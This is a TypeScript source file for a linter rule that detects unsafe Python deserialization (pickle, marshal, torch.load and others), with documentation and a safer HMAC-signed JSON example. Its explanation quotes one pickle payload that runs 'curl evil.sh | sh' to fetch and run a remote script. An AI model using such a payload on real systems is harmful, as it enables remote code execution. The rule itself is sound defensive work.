import { defineRule, type Report } from '../rule';
import { callArguments, unparenthesize } from '../../syntax/python';
import type { SyntaxNode } from '../../syntax/syntaxNode';
import { argumentByName, flagValue } from '../support/call-arguments';
import { codeSnippet } from '../support/snippets';
import { SinkHits, withFlow } from '../flowRule';
import { SHIPPED_FILE_NOTE, isShippedFile } from '../support/shippedFiles';
import { DESERIALIZERS as LOADERS, SERIALIZERS as DUMPERS } from '../../flow/models/serialization';

export default defineRule({
  meta: {
    id: 'VG201',
    name: 'unsafe-deserialization',
    title: 'Deserialization of untrusted data',
    cwe: [502],
    severity: 'medium',
    confidence: 'high',
    status: 'stable',
    since: '0.1.0',
    // B614 (torch.load) added so that `--select B614` and `# nosec B614` reach this rule; Ruff has no S614.
    bandit: ['B301', 'B302', 'B614'],
    ruff: ['S301', 'S302'],
    fixable: false,
    docs: {
      whatItDoes:
        'Flags loading data with formats that can run code while they load: `pickle`/`cPickle`/`dill`/`cloudpickle` `load`, `loads` and `Unpickler`, `shelve.open`, `marshal.load(s)`, `jsonpickle.decode`, `pandas.read_pickle`, `joblib.load`, `numpy.load(..., allow_pickle=True)` and `torch.load` without `weights_only=True`. When the flow layer sees request data or program input reach the loader (also through helpers), the finding is high severity and carries the path.',
      whyIsThisBad:
        'A pickle is a small program for a stack machine that may import any callable and call it: a payload whose `__reduce__` returns `(os.system, ("curl evil.sh | sh",))` runs that command the moment it is unpickled, before your code sees any object. Whoever can write the bytes — a request body, a cookie, a cache entry, an uploaded model file, a file in a shared directory — can run code in your process. `marshal` is documented as unsafe against malicious data as well.',
      example:
        'import pickle\n\n\ndef restore_session(cookie_value):\n    return pickle.loads(base64.b64decode(cookie_value))',
      useInstead:
        'import hashlib\nimport hmac\nimport json\n\n\ndef restore_session(cookie_value, secret_key):\n    payload, _, signature = cookie_value.rpartition(".")\n    expected = hmac.new(secret_key, payload.encode(), hashlib.sha256).hexdigest()\n    if not hmac.compare_digest(signature, expected):\n        raise ValueError("tampered session")\n    return json.loads(payload)\n\n\n# Model weights: safetensors stores tensors only, no code.\n# from safetensors.torch import load_file\n# state = load_file("model.safetensors")',
      references: [
        'https://cwe.mitre.org/data/definitions/502.html',
        'https://docs.python.org/3/library/pickle.html#restricting-globals',
        'https://docs.python.org/3/library/marshal.html',
        'https://docs.python.org/3/library/hmac.html',
        'https://pytorch.org/docs/stable/generated/torch.load.html',
        'https://numpy.org/doc/stable/reference/generated/numpy.load.html',
        'https://huggingface.co/docs/safetensors/index',
        'https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html',
      ],
      knownProblems:
        'Every call is flagged whatever the data\'s origin: loading a file your own program wrote is only safe if nobody else can write it, which Vigil cannot know; loads from a constant path (a file the program ships) are only an `info` note. Data that is a constant in the code and a round trip of the program\'s own object (`pickle.loads(pickle.dumps(x))`) are only `info` notes. Not flagged: an `Unpickler` subclass that overrides `find_class` (instances of your own class are not recognised), `numpy.load` with `allow_pickle` set from a variable, `torch.load` with `**kwargs`, and loaders reached through `getattr` or attributes (`self.loader(data)`). `torch.load` without `weights_only` is reported with medium confidence: PyTorch 2.6 and later default to `weights_only=True`.',
    },
  },
  usesFlow: true,
  create(context) {
    const { model } = context;
    /** Request data and program input reaching a loader, by the flow layer: such a finding is high severity. */
    let sinkHits: SinkHits | undefined;
    const loaderHits = (): SinkHits => (sinkHits ??= new SinkHits(context.flow.hits, 'deserialization'));

    /** Whether `data` is the program's own object serialized right here: `pickle.dumps(x)`, or a name bound once to that. */
    const isOwnRoundTrip = (data: SyntaxNode, depth = 0): boolean => {
      const expr = unparenthesize(data);
      if (expr.type === 'call') {
        const callee = model.calleeQualifiedName(expr);
        return !!callee && DUMPERS.has(callee);
      }
      if (expr.type === 'identifier' && depth < 4) {
        const value = model.singleValue(expr);
        return !!value && value !== expr && isOwnRoundTrip(value, depth + 1);
      }
      return false;
    };

    return {
      call(call) {
        const callee = model.calleeQualifiedName(call);
        if (!callee) return;
        const loader = LOADERS.get(callee);
        if (!loader) return;
        const data = argumentByName(call, 0, loader.keywords);
        if (!data && !callArguments(call).hasUnpacking) return; // not a complete call yet
        // Data written in the program, or pickled by it just before: safe, and a note, as Bandit reports every load.
        if (data && ((loader.input === 'bytes' && model.isConstant(data)) || isOwnRoundTrip(data))) {
          context.report({
            at: call,
            message: `\`${callee}()\` on \`${codeSnippet(data)}\` loads the program's own data (a constant, or what it just serialized): safe here, but a format that cannot run code (\`json\`, \`copy.deepcopy\` for a copy) says so by itself`,
            severity: 'info',
            confidence: 'high',
            bandit: loader.family === 'marshal' ? ['B302'] : ['B301'],
            ruff: loader.family === 'marshal' ? ['S302'] : ['S301'],
          });
          return;
        }

        let confidence: Report['confidence'];
        let condition = '';
        let bandit = loader.family === 'marshal' ? ['B302'] : ['B301'];
        let ruff = loader.family === 'marshal' ? ['S302'] : ['S301'];
        if (loader.family === 'numpy') {
          if (flagValue(model, call, 'allow_pickle', 2) !== 'true') return;
          condition = ' with `allow_pickle=True`';
        } else if (loader.family === 'torch') {
          const weightsOnly = flagValue(model, call, 'weights_only');
          if (weightsOnly === 'true' || weightsOnly === 'unknown') return;
          bandit = ['B614'];
          ruff = [];
          if (weightsOnly === 'absent') {
            // PyTorch ≥ 2.6 defaults to weights_only=True: the call is only unsafe on older versions.
            confidence = 'medium';
            condition = ' without `weights_only=True`';
          } else {
            condition = ' with `weights_only=False`';
          }
        }
        // A file the program ships (a constant path): not attacker input, a note (issue 6).
        const shipped = !!data && loader.input === 'file' && isShippedFile(model, data);

        const label = `\`${callee}()\``;
        const on = data ? ` ${loader.isClass ? 'over' : 'on'} \`${codeSnippet(data)}\`` : '';
        let message: string;
        switch (loader.family) {
          case 'marshal':
            message = `${label}${on} is not safe against maliciously built data: it can create code objects and crash the interpreter`;
            break;
          case 'shelve':
            message = `${label}${on} unpickles the values stored in the shelf: a crafted file can run arbitrary code when they are read`;
            break;
          case 'jsonpickle':
            message = `${label}${on} can build arbitrary objects and run arbitrary code while decoding`;
            break;
          case 'numpy':
            message = `${label}${on}${condition} can run arbitrary code while unpickling object arrays`;
            break;
          case 'torch':
            message =
              condition.startsWith(' without')
                ? `${label}${on}${condition} can run arbitrary code while unpickling (PyTorch before 2.6 does not default to it)`
                : `${label}${on}${condition} can run arbitrary code while unpickling`;
            break;
          default:
            message = `${label}${on} can run arbitrary code while unpickling`;
        }
        const report: Report = shipped
          ? { at: call, message: `${message}; ${SHIPPED_FILE_NOTE}`, severity: 'info', confidence: 'medium', bandit, ruff }
          : { at: call, message, ...(confidence ? { confidence } : {}), bandit, ruff };
        context.report(withFlow(report, loaderHits().take(call), 'high', context.meta));
      },
    };
  },
});
